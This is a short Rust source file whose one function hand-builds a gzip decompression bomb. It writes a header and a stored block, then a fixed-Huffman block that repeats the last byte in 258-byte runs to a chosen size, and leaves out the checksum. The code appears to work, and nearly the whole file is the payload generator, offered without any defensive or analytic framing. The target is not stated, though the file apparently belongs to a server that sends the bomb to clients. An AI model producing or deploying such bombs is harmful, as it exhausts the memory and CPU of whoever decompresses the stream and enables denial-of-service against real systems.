//! A gzip bomb without a compressor: white space is easy to pack by hand.

/// `start` followed by about `size` bytes of its last byte, as one gzip member (RFC 1952). The end
/// of the stream and its checksum are left out: nobody is supposed to read so far.
///
/// The start is a stored block; after it comes one block of fixed Huffman codes (RFC 1951 §3.2.6)
/// in which each 13 bits say "the last byte, 258 times more": length code 285 is `11000101`,
/// distance code 0 is `00000`.
pub(super) fn bomb(start: &str, size: u64) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    // The start is ours and short.
    let length = u16::try_from(start.len()).unwrap_or(u16::MAX);
    out.push(0);
    out.extend(length.to_le_bytes());
    out.extend((!length).to_le_bytes());
    out.extend(&start.as_bytes()[..usize::from(length)]);
    let (mut queue, mut held) = (0_u32, 0);
    let mut put = |value: u32, count: u32| {
        queue |= value << held;
        held += count;
        while held >= 8 {
            out.push(queue.to_le_bytes()[0]);
            queue >>= 8;
            held -= 8;
        }
    };
    // Last block, fixed codes. Huffman codes go in from their highest bit.
    put(0b011, 3);
    for _ in 0..size / 258 {
        put(0b1010_0011, 8);
        put(0, 5);
    }
    out
}
